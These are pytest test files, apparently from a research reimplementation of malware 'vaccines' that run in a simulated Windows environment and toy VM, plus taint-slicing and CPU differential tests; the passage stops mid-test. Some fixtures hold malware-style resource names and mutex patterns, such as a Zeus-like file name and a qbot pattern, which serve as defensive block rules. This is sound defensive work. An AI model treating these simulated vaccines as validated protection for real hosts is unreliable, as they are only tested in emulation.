