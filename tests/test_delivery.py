"""Phase-III delivery tests: direct injection, daemon, packages, deploy."""

import pytest

from repro.core import (
    DeliveryKind,
    IdentifierKind,
    Immunization,
    Mechanism,
    Vaccine,
    run_sample,
)
from repro.delivery import (
    DirectInjector,
    InjectionError,
    VaccineDaemon,
    VaccinePackage,
    deploy,
)
from repro.winenv import (
    Access,
    IntegrityLevel,
    MachineIdentity,
    Operation,
    ResourceFault,
    ResourceType,
    SystemEnvironment,
)


def make_vaccine(rtype, identifier, mechanism=Mechanism.SIMULATE_PRESENCE,
                 kind=IdentifierKind.STATIC, ops=frozenset(), pattern=None, slice_=None):
    return Vaccine(
        malware="test",
        resource_type=rtype,
        identifier=identifier,
        identifier_kind=kind,
        mechanism=mechanism,
        immunization=Immunization.FULL,
        operations=ops,
        pattern=pattern,
        slice=slice_,
    )


class TestDirectInjection:
    def test_mutex_marker_created_locked(self):
        env = SystemEnvironment()
        DirectInjector(env).inject(make_vaccine(ResourceType.MUTEX, "VacMtx"))
        mutex = env.mutexes.lookup("VacMtx")
        assert mutex is not None
        assert not mutex.acl.allows(IntegrityLevel.LOW, Access.DELETE)

    def test_file_marker_created(self):
        env = SystemEnvironment()
        DirectInjector(env).inject(
            make_vaccine(ResourceType.FILE, "c:\\windows\\system32\\sdra64.exe")
        )
        node = env.filesystem.lookup("c:\\windows\\system32\\sdra64.exe")
        assert node is not None
        with pytest.raises(ResourceFault):
            env.filesystem.delete(node.name, IntegrityLevel.LOW)

    def test_registry_marker_created(self):
        env = SystemEnvironment()
        DirectInjector(env).inject(make_vaccine(ResourceType.REGISTRY, "hklm\\software\\vac"))
        assert env.registry.exists("hklm\\software\\vac")

    def test_window_and_library_and_service_markers(self):
        env = SystemEnvironment()
        injector = DirectInjector(env)
        injector.inject(make_vaccine(ResourceType.WINDOW, "VacWnd"))
        injector.inject(make_vaccine(ResourceType.LIBRARY, "vac.dll"))
        injector.inject(make_vaccine(ResourceType.SERVICE, "vacsvc"))
        assert env.windows.exists("VacWnd")
        assert env.libraries.exists("vac.dll")
        assert env.services.exists("vacsvc")

    def test_enforce_failure_on_create_plants_locked_decoy(self):
        env = SystemEnvironment()
        vaccine = make_vaccine(
            ResourceType.FILE, "c:\\windows\\system32\\drop.exe",
            mechanism=Mechanism.ENFORCE_FAILURE, ops=frozenset({Operation.CREATE}),
        )
        record = DirectInjector(env).inject(vaccine)
        assert record.action == "planted-locked-decoy"
        with pytest.raises(ResourceFault):
            env.filesystem.create("c:\\windows\\system32\\drop.exe", IntegrityLevel.LOW)

    def test_enforce_failure_on_read_removes_existing(self):
        env = SystemEnvironment()
        env.filesystem.create("c:\\cfg.dat", IntegrityLevel.MEDIUM)
        vaccine = make_vaccine(
            ResourceType.FILE, "c:\\cfg.dat",
            mechanism=Mechanism.ENFORCE_FAILURE, ops=frozenset({Operation.READ}),
        )
        record = DirectInjector(env).inject(vaccine)
        assert record.action == "removed-resource"
        assert not env.filesystem.exists("c:\\cfg.dat")

    def test_enforce_failure_library_blocked(self):
        env = SystemEnvironment()
        vaccine = make_vaccine(ResourceType.LIBRARY, "evil.dll",
                               mechanism=Mechanism.ENFORCE_FAILURE)
        DirectInjector(env).inject(vaccine)
        with pytest.raises(ResourceFault):
            env.libraries.load("evil.dll", IntegrityLevel.LOW)

    def test_enforce_failure_mutex_needs_daemon(self):
        env = SystemEnvironment()
        vaccine = make_vaccine(ResourceType.MUTEX, "M",
                               mechanism=Mechanism.ENFORCE_FAILURE)
        with pytest.raises(InjectionError):
            DirectInjector(env).inject(vaccine)


class TestDeliveryRouting:
    def test_static_presence_routes_direct(self):
        assert make_vaccine(ResourceType.MUTEX, "M").delivery is DeliveryKind.DIRECT_INJECTION

    def test_partial_static_routes_daemon(self):
        v = make_vaccine(ResourceType.MUTEX, "a-1-b", kind=IdentifierKind.PARTIAL_STATIC,
                         pattern="^a-.+-b$")
        assert v.delivery is DeliveryKind.DAEMON

    def test_algo_deterministic_routes_daemon(self):
        v = make_vaccine(ResourceType.MUTEX, "X", kind=IdentifierKind.ALGORITHM_DETERMINISTIC)
        assert v.delivery is DeliveryKind.DAEMON

    def test_static_enforce_failure_mutex_routes_daemon(self):
        v = make_vaccine(ResourceType.MUTEX, "M", mechanism=Mechanism.ENFORCE_FAILURE)
        assert v.delivery is DeliveryKind.DAEMON

    def test_process_vaccine_routes_daemon(self):
        v = make_vaccine(ResourceType.PROCESS, "mal.exe")
        assert v.delivery is DeliveryKind.DAEMON


class TestDaemon:
    def test_partial_static_pattern_blocks_creation(self, run_asm):
        env = SystemEnvironment()
        vaccine = make_vaccine(
            ResourceType.MUTEX, "qbot-1a2b-lk",
            mechanism=Mechanism.ENFORCE_FAILURE,
            kind=IdentifierKind.PARTIAL_STATIC, pattern="^qbot\\-.+\\-lk$",
        )
        daemon = VaccineDaemon(vaccines=[vaccine])
        daemon.install(env)
        cpu = run_asm(
            '.section .rdata\nm: .asciz "qbot-ffee-lk"\n.section .text\n'
            "    push m\n    push 0\n    push 0\n    call @CreateMutexA\n    halt\n",
            environment=env,
        )
        assert cpu.regs["eax"] == 0
        assert daemon.calls_matched == 1

    def test_non_matching_identifier_passes(self, run_asm):
        env = SystemEnvironment()
        vaccine = make_vaccine(
            ResourceType.MUTEX, "qbot-1-lk", mechanism=Mechanism.ENFORCE_FAILURE,
            kind=IdentifierKind.PARTIAL_STATIC, pattern="^qbot\\-.+\\-lk$",
        )
        daemon = VaccineDaemon(vaccines=[vaccine])
        daemon.install(env)
        cpu = run_asm(
            '.section .rdata\nm: .asciz "innocent"\n.section .text\n'
            "    push m\n    push 0\n    push 0\n    call @CreateMutexA\n    halt\n",
            environment=env,
        )
        assert cpu.regs["eax"] >= 0x100

    def test_simulate_presence_rule_fakes_existence(self, run_asm):
        env = SystemEnvironment()
        vaccine = make_vaccine(
            ResourceType.MUTEX, "sim-1-x", mechanism=Mechanism.SIMULATE_PRESENCE,
            kind=IdentifierKind.PARTIAL_STATIC, pattern="^sim\\-.+\\-x$",
        )
        VaccineDaemon(vaccines=[vaccine]).install(env)
        cpu = run_asm(
            '.section .rdata\nm: .asciz "sim-77-x"\n.section .text\n'
            "    push m\n    push 0\n    push 0x1F0001\n    call @OpenMutexA\n    halt\n",
            environment=env,
        )
        assert cpu.regs["eax"] >= 0x100  # phantom success

    def test_non_latin1_identifier_reaches_marker(self, run_asm):
        """A vaccine whose identifier is outside latin-1 still protects: the
        guest's UTF-8 bytes decode to the same string the marker was created
        under (regression: the old latin-1 read split "π" into "Ï€")."""
        env = SystemEnvironment()
        DirectInjector(env).inject(make_vaccine(ResourceType.MUTEX, "Vaccine-π"))
        cpu = run_asm(
            '.section .rdata\nm: .asciz "Vaccine-\\xcf\\x80"\n.section .text\n'
            "    push m\n    push 0\n    push 0x1F0001\n    call @OpenMutexA\n    halt\n",
            environment=env,
        )
        assert cpu.regs["eax"] >= 0x100  # found the real marker

    def test_simulate_presence_matches_non_latin1_identifier(self, run_asm):
        env = SystemEnvironment()
        vaccine = make_vaccine(
            ResourceType.MUTEX, "sim-π-x", mechanism=Mechanism.SIMULATE_PRESENCE,
            kind=IdentifierKind.PARTIAL_STATIC, pattern="^sim\\-.\\-x$",
        )
        VaccineDaemon(vaccines=[vaccine]).install(env)
        cpu = run_asm(
            '.section .rdata\nm: .asciz "sim-\\xcf\\x80-x"\n.section .text\n'
            "    push m\n    push 0\n    push 0x1F0001\n    call @OpenMutexA\n    halt\n",
            environment=env,
        )
        # "π" must arrive as ONE character for the single-char pattern to hit.
        assert cpu.regs["eax"] >= 0x100  # phantom success

    def test_daemon_counts_seen_calls(self, run_asm):
        env = SystemEnvironment()
        daemon = VaccineDaemon(vaccines=[make_vaccine(
            ResourceType.MUTEX, "x-1-y", mechanism=Mechanism.ENFORCE_FAILURE,
            kind=IdentifierKind.PARTIAL_STATIC, pattern="^x\\-.+\\-y$")])
        daemon.install(env)
        run_asm("    call @GetTickCount\n    halt\n", environment=env)
        assert daemon.calls_seen >= 1 and daemon.calls_matched == 0

    def test_refresh_detects_identity_change(self):
        env = SystemEnvironment()
        daemon = VaccineDaemon(vaccines=[])
        daemon.install(env)
        assert daemon.refresh() is False
        env.identity = MachineIdentity(computer_name="RENAMED")
        assert daemon.refresh() is True

    def test_pattern_matches_whole_identifier_only(self, run_asm):
        # Regression: a prefix-only match ([a-z]{8} matching any identifier
        # with an 8-char lowercase prefix) falsely blocked benign resources.
        env = SystemEnvironment()
        vaccine = make_vaccine(
            ResourceType.MUTEX, "abcdefgh",
            mechanism=Mechanism.ENFORCE_FAILURE,
            kind=IdentifierKind.PARTIAL_STATIC, pattern="[a-z]{8}",
        )
        daemon = VaccineDaemon(vaccines=[vaccine])
        daemon.install(env)
        cpu = run_asm(
            '.section .rdata\nm: .asciz "abcdefgh_benign_service"\n.section .text\n'
            "    push m\n    push 0\n    push 0\n    call @CreateMutexA\n    halt\n",
            environment=env,
        )
        assert cpu.regs["eax"] >= 0x100  # benign creation succeeds
        assert daemon.calls_matched == 0
        cpu = run_asm(
            '.section .rdata\nm: .asciz "qwertyui"\n.section .text\n'
            "    push m\n    push 0\n    push 0\n    call @CreateMutexA\n    halt\n",
            environment=env,
        )
        assert cpu.regs["eax"] == 0  # the full-length malware name still blocks
        assert daemon.calls_matched == 1

    def _slice_vaccine(self):
        """An algorithm-deterministic vaccine whose generation slice
        replays ``pipe\\<COMPUTERNAME>`` on any host."""
        from repro.taint.backward import backward_slice
        from repro.taint.slicing import extract_slice
        from repro.vm import CPU, assemble
        from repro.winapi import Dispatcher

        src = (
            '.section .rdata\nfmt: .asciz "pipe\\\\%s"\n'
            ".section .data\nbuf: .space 64\nname: .space 64\n"
            ".section .text\n"
            "    push 0\n    push name\n    call @GetComputerNameA\n"
            "    push name\n    push fmt\n    push buf\n    call @wsprintfA\n"
            "    add esp, 12\n"
            "    push buf\n    push 0\n    push 0\n    call @CreateMutexA\n"
            "    halt\n"
        )
        lab = SystemEnvironment()
        prog = assemble(src, name="gen")
        proc = lab.spawn_process("gen.exe")
        cpu = CPU(prog, environment=lab, process=proc, dispatcher=Dispatcher(lab, proc))
        cpu.run()
        event = cpu.trace.events_for_api("CreateMutexA")[0]
        result = backward_slice(cpu.trace, event, memory=cpu.memory)
        slice_ = extract_slice(
            prog, cpu.trace, result, event.extra["identifier_addr"],
            target_event=event,
        )
        return make_vaccine(
            ResourceType.MUTEX, event.identifier,
            kind=IdentifierKind.ALGORITHM_DETERMINISTIC, slice_=slice_,
        )

    @staticmethod
    def _markers(environment):
        return sorted(
            m.name for m in environment.mutexes if m.name.startswith("pipe\\")
        )

    def test_refresh_retracts_stale_computed_marker(self):
        # Regression: each refresh after an identity change injected the new
        # computed marker without removing the old one, accumulating stale
        # markers across refreshes.
        host = SystemEnvironment(identity=MachineIdentity(computer_name="HOST-A"))
        daemon = VaccineDaemon(vaccines=[self._slice_vaccine()])
        daemon.install(host)
        assert self._markers(host) == ["pipe\\HOST-A"]

        host.identity = MachineIdentity(computer_name="HOST-B")
        assert daemon.refresh() is True
        assert self._markers(host) == ["pipe\\HOST-B"]

        host.identity = MachineIdentity(computer_name="HOST-C")
        assert daemon.refresh() is True
        # exactly one live marker after two identity changes
        assert self._markers(host) == ["pipe\\HOST-C"]

    def test_refresh_with_unchanged_computed_name_keeps_marker(self):
        # An identity facet the slice does not consume changes: the
        # recomputed identifier is the same, and the marker must survive
        # the reinstall instead of being retracted with nothing replacing it.
        host = SystemEnvironment(identity=MachineIdentity(computer_name="SAME"))
        daemon = VaccineDaemon(vaccines=[self._slice_vaccine()])
        daemon.install(host)
        assert self._markers(host) == ["pipe\\SAME"]
        host.identity = MachineIdentity(computer_name="SAME", user_name="other")
        assert daemon.refresh() is True
        assert self._markers(host) == ["pipe\\SAME"]


class TestPackage:
    def _vaccines(self):
        return [
            make_vaccine(ResourceType.MUTEX, "PkgMtx"),
            make_vaccine(ResourceType.MUTEX, "p-1-q", mechanism=Mechanism.ENFORCE_FAILURE,
                         kind=IdentifierKind.PARTIAL_STATIC, pattern="^p\\-.+\\-q$"),
        ]

    def test_json_roundtrip(self):
        pkg = VaccinePackage(vaccines=self._vaccines(), description="test pack")
        clone = VaccinePackage.from_json(pkg.to_json())
        assert len(clone) == 2
        assert clone.description == "test pack"
        assert clone.vaccines[0].identifier == "PkgMtx"
        assert clone.vaccines[1].pattern == "^p\\-.+\\-q$"

    def test_save_and_load(self, tmp_path):
        path = tmp_path / "pack.json"
        VaccinePackage(vaccines=self._vaccines()).save(path)
        assert len(VaccinePackage.load(path)) == 2

    def test_version_check(self):
        import json

        bad = json.dumps({"format_version": 99, "vaccines": []})
        with pytest.raises(ValueError):
            VaccinePackage.from_json(bad)

    def test_deploy_splits_direct_and_daemon(self):
        env = SystemEnvironment()
        deployment = deploy(VaccinePackage(vaccines=self._vaccines()), env)
        assert len(deployment.injections) == 1
        assert deployment.daemon_needed
        assert env.mutexes.exists("PkgMtx")
        assert deployment.daemon in env.global_interceptors

    def test_deploy_reports_failures(self):
        env = SystemEnvironment()
        odd = make_vaccine(ResourceType.WINDOW, "W", mechanism=Mechanism.ENFORCE_FAILURE,
                           kind=IdentifierKind.STATIC)
        # window enforce-failure is daemon-routed, so force the direct path:
        object.__setattr__(odd, "identifier_kind", IdentifierKind.STATIC)
        deployment = deploy(VaccinePackage(vaccines=[odd]), env)
        # routed to daemon, not a failure
        assert not deployment.failures and deployment.daemon_needed
