"""Differential testing: the CPU against an independent Python model.

Hypothesis generates random straight-line ALU programs; both the VM and a
direct Python evaluator execute them, and the final register files must
agree.  This is the strongest guard on interpreter semantics (the taint and
slicing layers all sit on top of them).
"""

from __future__ import annotations

from hypothesis import given, settings, strategies as st

from repro.vm import CPU, assemble

REGS = ("eax", "ebx", "ecx", "edx", "esi", "edi")
MASK = 0xFFFFFFFF


def _model_step(state: dict, mnemonic: str, dst: str, src) -> None:
    value = state[src] if isinstance(src, str) else src
    if mnemonic == "mov":
        state[dst] = value & MASK
    elif mnemonic == "add":
        state[dst] = (state[dst] + value) & MASK
    elif mnemonic == "sub":
        state[dst] = (state[dst] - value) & MASK
    elif mnemonic == "xor":
        state[dst] = (state[dst] ^ value) & MASK
    elif mnemonic == "and":
        state[dst] = state[dst] & value & MASK
    elif mnemonic == "or":
        state[dst] = (state[dst] | value) & MASK
    elif mnemonic == "imul":
        state[dst] = (state[dst] * value) & MASK
    elif mnemonic == "shl":
        state[dst] = (state[dst] << (value & 0x1F)) & MASK
    elif mnemonic == "shr":
        state[dst] = (state[dst] >> (value & 0x1F)) & MASK
    elif mnemonic == "inc":
        state[dst] = (state[dst] + 1) & MASK
    elif mnemonic == "dec":
        state[dst] = (state[dst] - 1) & MASK
    elif mnemonic == "neg":
        state[dst] = (-state[dst]) & MASK
    elif mnemonic == "not":
        state[dst] = (~state[dst]) & MASK


binary_ops = st.sampled_from(["mov", "add", "sub", "xor", "and", "or", "imul", "shl", "shr"])
unary_ops = st.sampled_from(["inc", "dec", "neg", "not"])
registers = st.sampled_from(REGS)
immediates = st.integers(min_value=0, max_value=0xFFFFFFFF)

binary_instr = st.tuples(binary_ops, registers, st.one_of(registers, immediates))
unary_instr = st.tuples(unary_ops, registers, st.none())
instructions = st.lists(st.one_of(binary_instr, unary_instr), min_size=1, max_size=30)


@given(instructions)
@settings(max_examples=200, deadline=None)
def test_cpu_matches_python_model(instrs):
    lines = []
    model = {r: 0 for r in REGS}
    for mnemonic, dst, src in instrs:
        if src is None:
            lines.append(f"    {mnemonic} {dst}")
        elif isinstance(src, str):
            lines.append(f"    {mnemonic} {dst}, {src}")
        else:
            lines.append(f"    {mnemonic} {dst}, {src}")
        _model_step(model, mnemonic, dst, src)
    src_text = "main:\n" + "\n".join(lines) + "\n    halt\n"
    cpu = CPU(assemble(src_text), max_steps=1000)
    cpu.run()
    assert cpu.status.value == "halted"
    for reg in REGS:
        assert cpu.regs[reg] == model[reg], (reg, src_text)


@given(st.lists(st.integers(min_value=0, max_value=0xFFFFFFFF), min_size=1, max_size=12))
@settings(max_examples=100, deadline=None)
def test_push_pop_lifo(values):
    push_lines = "\n".join(f"    push {v}" for v in values)
    pop_lines = "\n".join("    pop eax" for _ in values)
    cpu = CPU(assemble(f"main:\n{push_lines}\n{pop_lines}\n    halt\n"))
    cpu.run()
    assert cpu.regs["eax"] == values[0]  # last popped = first pushed


@given(st.integers(min_value=0, max_value=0xFFFFFFFF),
       st.integers(min_value=0, max_value=0xFFFFFFFF))
@settings(max_examples=100, deadline=None)
def test_comparison_flags_match_semantics(a, b):
    cpu = CPU(assemble(
        f"main:\n    mov eax, {a}\n    cmp eax, {b}\n    halt\n"))
    cpu.run()
    assert cpu.flags["zf"] == (1 if a == b else 0)
    assert cpu.flags["cf"] == (1 if a < b else 0)
    assert cpu.flags["sf"] == (1 if ((a - b) & 0x80000000) else 0)


@given(st.integers(min_value=0, max_value=0xFFFFFFFF),
       st.integers(min_value=0, max_value=0xFFFFFFFF))
@settings(max_examples=60, deadline=None)
def test_unsigned_branch_picks_correct_path(a, b):
    cpu = CPU(assemble(
        f"main:\n    mov eax, {a}\n    cmp eax, {b}\n    jb below\n"
        "    mov ebx, 2\n    halt\nbelow:\n    mov ebx, 1\n    halt\n"))
    cpu.run()
    assert cpu.regs["ebx"] == (1 if a < b else 2)


# ---------------------------------------------------------------------------
# execution-tier parity: slow / fast / superblocks must be indistinguishable
# ---------------------------------------------------------------------------

def _final_state(cpu):
    return (cpu.status, cpu.steps, cpu.pc, dict(cpu.regs), dict(cpu.flags))


def _run_all_tiers(src: str, max_steps: int = 20_000):
    """Final machine state under each execution configuration.

    * slow — recording interpreter (tier 1);
    * fast — predecoded per-instruction loop, superblocks off (tier 2);
    * sb-eager — superblocks on with threshold 0 (every region compiles on
      first entry, the harshest tier-3 coverage);
    * sb-default — superblocks at the default hotness threshold.
    """
    program = assemble(src)
    states = {}
    for label, kwargs in (
        ("slow", dict(record_instructions=True)),
        ("fast", dict(record_instructions=False, superblocks=False)),
        ("sb-eager", dict(record_instructions=False, superblocks=True,
                          superblock_threshold=0)),
        ("sb-default", dict(record_instructions=False, superblocks=True)),
    ):
        cpu = CPU(program, max_steps=max_steps, **kwargs)
        cpu.run()
        states[label] = _final_state(cpu)
    return states


def _assert_tier_parity(states):
    reference = states["slow"]
    for label, state in states.items():
        assert state == reference, (label, state, reference)


loop_bodies = st.lists(
    st.one_of(binary_instr, unary_instr), min_size=1, max_size=8
)


@given(loop_bodies, st.integers(min_value=1, max_value=40), instructions)
@settings(max_examples=60, deadline=None)
def test_tier_parity_on_random_looped_programs(body, rounds, tail):
    """Random back-edge loops + straight-line tails agree across all tiers."""
    def fmt(instr):
        mnemonic, dst, src = instr
        if src is None:
            return f"    {mnemonic} {dst}"
        return f"    {mnemonic} {dst}, {src}"

    src = (
        "main:\n"
        + f"    mov ebp, {rounds}\n"
        + "loop:\n"
        + "\n".join(fmt(i) for i in body if i[1] != "ebp")
        + "\n    dec ebp\n    jnz loop\n"
        + "\n".join(fmt(i) for i in tail)
        + "\n    halt\n"
    )
    _assert_tier_parity(_run_all_tiers(src))


@given(st.integers(min_value=2, max_value=64))
@settings(max_examples=30, deadline=None)
def test_tier_parity_with_taint_points(length):
    """A tainted buffer hashed in a loop: superblocks must bail to the slow
    path at every tainted load and still finish in the identical state."""
    from repro.winapi import Dispatcher
    from repro.winenv import SystemEnvironment

    src = (
        ".section .data\n"
        f"buf: .space {length + 4}\n"
        ".section .text\n"
        "    push 0\n"
        f"    push buf\n"
        "    call @GetComputerNameA\n"
        "    xor esi, esi\n"
        "    mov ebx, 5381\n"
        "hash:\n"
        "    xor eax, eax\n"
        "    movb eax, [buf+esi]\n"
        "    test eax, eax\n"
        "    jz done\n"
        "    imul ebx, 33\n"
        "    add ebx, eax\n"
        "    inc esi\n"
        "    jmp hash\n"
        "done:\n"
        "    halt\n"
    )
    program = assemble(src)
    states = {}
    for label, kwargs in (
        ("fast", dict(superblocks=False)),
        ("sb-eager", dict(superblocks=True, superblock_threshold=0)),
        ("sb-default", dict(superblocks=True)),
    ):
        env = SystemEnvironment()
        proc = env.spawn_process("t.exe")
        cpu = CPU(
            program,
            environment=env,
            process=proc,
            dispatcher=Dispatcher(env, proc),
            record_instructions=False,
            **kwargs,
        )
        cpu.run()
        states[label] = _final_state(cpu) + (dict(cpu.reg_taint),)
    assert states["sb-eager"] == states["fast"]
    assert states["sb-default"] == states["fast"]
