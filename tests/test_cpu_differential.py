"""Differential testing: the CPU against an independent Python model.

Hypothesis generates random straight-line ALU programs; both the VM and a
direct Python evaluator execute them, and the final register files must
agree.  This is the strongest guard on interpreter semantics (the taint and
slicing layers all sit on top of them).
"""

from __future__ import annotations

from hypothesis import given, settings, strategies as st

from repro.vm import CPU, assemble

REGS = ("eax", "ebx", "ecx", "edx", "esi", "edi")
MASK = 0xFFFFFFFF


def _model_step(state: dict, mnemonic: str, dst: str, src) -> None:
    value = state[src] if isinstance(src, str) else src
    if mnemonic == "mov":
        state[dst] = value & MASK
    elif mnemonic == "add":
        state[dst] = (state[dst] + value) & MASK
    elif mnemonic == "sub":
        state[dst] = (state[dst] - value) & MASK
    elif mnemonic == "xor":
        state[dst] = (state[dst] ^ value) & MASK
    elif mnemonic == "and":
        state[dst] = state[dst] & value & MASK
    elif mnemonic == "or":
        state[dst] = (state[dst] | value) & MASK
    elif mnemonic == "imul":
        state[dst] = (state[dst] * value) & MASK
    elif mnemonic == "shl":
        state[dst] = (state[dst] << (value & 0x1F)) & MASK
    elif mnemonic == "shr":
        state[dst] = (state[dst] >> (value & 0x1F)) & MASK
    elif mnemonic == "inc":
        state[dst] = (state[dst] + 1) & MASK
    elif mnemonic == "dec":
        state[dst] = (state[dst] - 1) & MASK
    elif mnemonic == "neg":
        state[dst] = (-state[dst]) & MASK
    elif mnemonic == "not":
        state[dst] = (~state[dst]) & MASK


binary_ops = st.sampled_from(["mov", "add", "sub", "xor", "and", "or", "imul", "shl", "shr"])
unary_ops = st.sampled_from(["inc", "dec", "neg", "not"])
registers = st.sampled_from(REGS)
immediates = st.integers(min_value=0, max_value=0xFFFFFFFF)

binary_instr = st.tuples(binary_ops, registers, st.one_of(registers, immediates))
unary_instr = st.tuples(unary_ops, registers, st.none())
instructions = st.lists(st.one_of(binary_instr, unary_instr), min_size=1, max_size=30)


@given(instructions)
@settings(max_examples=200, deadline=None)
def test_cpu_matches_python_model(instrs):
    lines = []
    model = {r: 0 for r in REGS}
    for mnemonic, dst, src in instrs:
        if src is None:
            lines.append(f"    {mnemonic} {dst}")
        elif isinstance(src, str):
            lines.append(f"    {mnemonic} {dst}, {src}")
        else:
            lines.append(f"    {mnemonic} {dst}, {src}")
        _model_step(model, mnemonic, dst, src)
    src_text = "main:\n" + "\n".join(lines) + "\n    halt\n"
    cpu = CPU(assemble(src_text), max_steps=1000)
    cpu.run()
    assert cpu.status.value == "halted"
    for reg in REGS:
        assert cpu.regs[reg] == model[reg], (reg, src_text)


@given(st.lists(st.integers(min_value=0, max_value=0xFFFFFFFF), min_size=1, max_size=12))
@settings(max_examples=100, deadline=None)
def test_push_pop_lifo(values):
    push_lines = "\n".join(f"    push {v}" for v in values)
    pop_lines = "\n".join("    pop eax" for _ in values)
    cpu = CPU(assemble(f"main:\n{push_lines}\n{pop_lines}\n    halt\n"))
    cpu.run()
    assert cpu.regs["eax"] == values[0]  # last popped = first pushed


@given(st.integers(min_value=0, max_value=0xFFFFFFFF),
       st.integers(min_value=0, max_value=0xFFFFFFFF))
@settings(max_examples=100, deadline=None)
def test_comparison_flags_match_semantics(a, b):
    cpu = CPU(assemble(
        f"main:\n    mov eax, {a}\n    cmp eax, {b}\n    halt\n"))
    cpu.run()
    assert cpu.flags["zf"] == (1 if a == b else 0)
    assert cpu.flags["cf"] == (1 if a < b else 0)
    assert cpu.flags["sf"] == (1 if ((a - b) & 0x80000000) else 0)


@given(st.integers(min_value=0, max_value=0xFFFFFFFF),
       st.integers(min_value=0, max_value=0xFFFFFFFF))
@settings(max_examples=60, deadline=None)
def test_unsigned_branch_picks_correct_path(a, b):
    cpu = CPU(assemble(
        f"main:\n    mov eax, {a}\n    cmp eax, {b}\n    jb below\n"
        "    mov ebx, 2\n    halt\nbelow:\n    mov ebx, 1\n    halt\n"))
    cpu.run()
    assert cpu.regs["ebx"] == (1 if a < b else 2)
