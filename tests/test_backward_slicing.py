"""Backward taint tracking, slice extraction, and cross-machine replay."""

import pytest

from repro.taint.backward import backward_slice
from repro.taint.replay import SliceReplayError, replay_slice
from repro.taint.slicing import VaccineSlice, extract_slice
from repro.vm import CPU, assemble
from repro.winapi import Dispatcher
from repro.winenv import MachineIdentity, SystemEnvironment


def run(src: str, identity=None, seed=0xA07C):
    env = SystemEnvironment(identity=identity, rng_seed=seed)
    prog = assemble(src, name="bt")
    proc = env.spawn_process("bt.exe")
    cpu = CPU(prog, environment=env, process=proc, dispatcher=Dispatcher(env, proc))
    cpu.run()
    return cpu, prog, env


STRAIGHT_LINE = r"""
.section .rdata
fmt:    .asciz "pipe\\%s"
.section .data
buf:    .space 64
name:   .space 64
.section .text
main:
    push 0
    push name
    call @GetComputerNameA
    push name
    push fmt
    push buf
    call @wsprintfA
    add esp, 12
    push buf
    push 0
    push 0
    call @CreateMutexA
    halt
"""

LOOPY = r"""
.section .rdata
fmt:    .asciz "LK-%x"
.section .data
buf:    .space 64
name:   .space 64
.section .text
main:
    push 0
    push name
    call @GetComputerNameA
    xor esi, esi
    xor ebx, ebx
hash:
    xor eax, eax
    movb eax, [name+esi]
    test eax, eax
    jz done
    imul ebx, 31
    add ebx, eax
    inc esi
    jmp hash
done:
    and ebx, 0xFFFFF
    push ebx
    push fmt
    push buf
    call @wsprintfA
    add esp, 12
    push buf
    push 0
    push 0
    call @CreateMutexA
    halt
"""

RANDOM_NAME = r"""
.section .rdata
fmt:    .asciz "tmp%x"
.section .data
buf:    .space 32
.section .text
main:
    call @GetTickCount
    push eax
    push fmt
    push buf
    call @wsprintfA
    add esp, 12
    push buf
    push 0
    push 0
    call @CreateMutexA
    halt
"""


def target_event(cpu, api="CreateMutexA"):
    return cpu.trace.events_for_api(api)[0]


class TestBackwardSlice:
    def test_env_source_identified(self):
        cpu, prog, env = run(STRAIGHT_LINE)
        result = backward_slice(cpu.trace, target_event(cpu), memory=cpu.memory)
        assert result.env_sources == ["GetComputerNameA"]
        assert not result.has_random_sources

    def test_static_terminals_from_rdata(self):
        cpu, prog, env = run(STRAIGHT_LINE)
        result = backward_slice(cpu.trace, target_event(cpu), memory=cpu.memory)
        assert result.static_terminals > 0

    def test_random_source_identified(self):
        cpu, prog, env = run(RANDOM_NAME)
        result = backward_slice(cpu.trace, target_event(cpu), memory=cpu.memory)
        assert "GetTickCount" in result.random_sources

    def test_slice_is_subset_of_trace(self):
        cpu, prog, env = run(LOOPY)
        result = backward_slice(cpu.trace, target_event(cpu), memory=cpu.memory)
        assert 0 < len(result.slice_records) < len(cpu.trace.instructions)

    def test_slice_in_forward_order(self):
        cpu, prog, env = run(LOOPY)
        result = backward_slice(cpu.trace, target_event(cpu), memory=cpu.memory)
        seqs = [r.seq for r in result.slice_records]
        assert seqs == sorted(seqs)

    def test_requires_instruction_records(self):
        env = SystemEnvironment()
        prog = assemble(STRAIGHT_LINE)
        proc = env.spawn_process("x.exe")
        cpu = CPU(prog, environment=env, process=proc,
                  dispatcher=Dispatcher(env, proc), record_instructions=False)
        cpu.run()
        with pytest.raises(ValueError):
            backward_slice(cpu.trace, target_event(cpu), memory=cpu.memory)

    def test_pure_static_identifier_has_no_sources(self):
        cpu, prog, env = run(
            '.section .rdata\nm: .asciz "static_mtx"\n.section .text\n'
            "    push m\n    push 0\n    push 0\n    call @CreateMutexA\n    halt\n"
        )
        result = backward_slice(cpu.trace, target_event(cpu), memory=cpu.memory)
        assert result.is_pure_static


class TestSliceReplay:
    def _slice(self, src):
        cpu, prog, env = run(src)
        event = target_event(cpu)
        result = backward_slice(cpu.trace, event, memory=cpu.memory)
        return extract_slice(prog, cpu.trace, result, event.extra["identifier_addr"],
                             target_event=event), event, env

    def test_straight_line_replays_on_same_machine(self):
        slice_, event, env = self._slice(STRAIGHT_LINE)
        assert not slice_.requires_reexecution
        assert replay_slice(slice_, env.clone()) == event.identifier

    def test_straight_line_replays_on_other_machine(self):
        slice_, event, env = self._slice(STRAIGHT_LINE)
        other = SystemEnvironment(identity=MachineIdentity(computer_name="OTHER"))
        assert replay_slice(slice_, other) == "pipe\\OTHER"

    def test_loop_slice_flagged_for_reexecution(self):
        slice_, event, env = self._slice(LOOPY)
        assert slice_.requires_reexecution

    def test_loop_slice_replays_across_name_lengths(self):
        slice_, event, env = self._slice(LOOPY)
        other = SystemEnvironment(
            identity=MachineIdentity(computer_name="A-VERY-MUCH-LONGER-NAME")
        )
        regenerated = replay_slice(slice_, other)
        assert regenerated.startswith("LK-") and regenerated != event.identifier

    def test_loop_replay_matches_direct_execution(self):
        slice_, event, env = self._slice(LOOPY)
        other_id = MachineIdentity(computer_name="CROSSCHECK-BOX")
        regenerated = replay_slice(slice_, SystemEnvironment(identity=other_id))
        cpu2, _, _ = run(LOOPY, identity=other_id)
        assert regenerated == target_event(cpu2).identifier

    def test_reexecution_immune_to_existing_vaccine(self):
        """Pinned outcomes keep the path even when the marker already exists
        on the deploying host (the daemon's own injection must not divert
        re-generation)."""
        slice_, event, env = self._slice(LOOPY)
        host = SystemEnvironment(identity=MachineIdentity(computer_name="HOSTX"))
        name = replay_slice(slice_, host)
        from repro.winenv import IntegrityLevel

        host.mutexes.create(name, IntegrityLevel.SYSTEM)
        assert replay_slice(slice_, host) == name

    def test_serialization_roundtrip(self):
